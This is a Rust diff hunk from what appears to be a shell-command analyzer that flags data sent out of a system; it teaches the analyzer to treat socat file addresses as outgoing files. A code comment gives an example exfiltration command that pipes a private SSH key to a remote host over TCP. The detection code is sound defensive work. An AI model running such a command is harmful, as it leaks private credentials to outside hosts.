@@ -107,6 +107,23 @@ pub(super) fn sent(analysis: &ShellAnalysis, i: usize, scope: &Scope, writes: &W
                     }
                 }
             }
+            // `socat -u FILE:~/.ssh/id_rsa TCP:host:443`: a file address is read into the
+            // socket (OPEN, GOPEN and READ alike).
+            if p == "socat" {
+                for w in c.operands() {
+                    if let Some((kind, rest)) = w.text.split_once(':')
+                        && matches!(
+                            kind.to_ascii_uppercase().as_str(),
+                            "FILE" | "OPEN" | "GOPEN" | "READ"
+                        )
+                    {
+                        let path = rest.split(',').next().unwrap_or(rest);
+                        if !path.is_empty() {
+                            items.push(Payload::File(line.file(w, path)));
+                        }
+                    }
+                }
+            }
             if matches!(p, "mail" | "mailx" | "s-nail" | "mutt" | "neomutt") {
                 for (w, f) in attachments(c) {
                     items.push(Payload::File(line.file(w, f)));
